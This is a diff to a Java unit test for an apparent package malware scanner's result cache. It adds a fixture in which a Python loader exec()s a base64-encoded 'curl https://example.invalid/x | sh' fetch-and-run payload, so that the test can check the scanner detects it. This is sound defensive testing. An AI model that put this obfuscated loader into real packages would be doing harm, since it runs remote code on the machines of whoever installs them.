@@ -147,14 +147,38 @@ class FileResultCacheTest {
     }
 
     @Test
+    void aFileIsReusedOnlyWhereItsImportedModulesAreTheSame() {
+        String loader = "import base64\nfrom .table import DATA\nexec(base64.b64decode(DATA))\n";
+        String payload = java.util.Base64.getEncoder().encodeToString(
+                "import os\nos.system('curl https://example.invalid/x | sh')\n".getBytes());
+        List<Member> harmless = List.of(Member.file("a-1.0/lib/load.py", loader),
+                Member.file("a-1.0/lib/table.py", "DATA = 42\n"));
+        List<Member> harmful = List.of(Member.file("b-1.0/lib/load.py", loader),
+                Member.file("b-1.0/lib/table.py", "DATA = '" + payload + "'\n"));
+        ScanEngine warm = engine(CONTEXT_FREE);
+        scan(warm, "a-1.0.tar.gz", harmless, false);
+        ScanResult reused = scan(warm, "b-1.0.tar.gz", harmful, false);
+        ScanResult fresh = scan(engine(CONTEXT_FREE), "b-1.0.tar.gz", harmful, false);
+        assertTrue(fresh.findings().stream().anyMatch(f -> f.file().equals("b-1.0/lib/load.py#layer1")),
+                "the loader decodes its sibling's payload: " + fresh.findings());
+        assertEquals(fresh.findings(), reused.findings());
+        long hits = warm.fileResultHits();
+        List<Member> sameAsFirst = List.of(Member.file("c-1.0/lib/load.py", loader),
+                Member.file("c-1.0/lib/table.py", "DATA = 42\n"));
+        ScanResult again = scan(warm, "c-1.0.tar.gz", sameAsFirst, false);
+        assertEquals(hits + 2, warm.fileResultHits(), "the loader and its table, the same as in a-1.0");
+        assertEquals(scan(engine(CONTEXT_FREE), "c-1.0.tar.gz", sameAsFirst, false).findings(), again.findings());
+    }
+
+    @Test
     void theCacheKeepsNoMoreSourceThanItsBound() {
         FileResultCache cache = new FileResultCache(100);
-        FileResultCache.Entry sixty = new FileResultCache.Entry(null, java.util.Map.of(), 60);
+        FileResultCache.Entry sixty = new FileResultCache.Entry(null, List.of(), java.util.Map.of(), 60);
         cache.put(new FileResultCache.Key("a", "x.py", true), sixty);
         cache.put(new FileResultCache.Key("b", "x.py", true), sixty);
         assertTrue(cache.get(new FileResultCache.Key("a", "x.py", true)).isEmpty(), "the eldest goes first");
         assertTrue(cache.get(new FileResultCache.Key("b", "x.py", true)).isPresent());
-        cache.put(new FileResultCache.Key("c", "x.py", true), new FileResultCache.Entry(null, java.util.Map.of(), 101));
+        cache.put(new FileResultCache.Key("c", "x.py", true), new FileResultCache.Entry(null, List.of(), java.util.Map.of(), 101));
         assertTrue(cache.get(new FileResultCache.Key("c", "x.py", true)).isEmpty(), "larger than the bound");
     }
 }
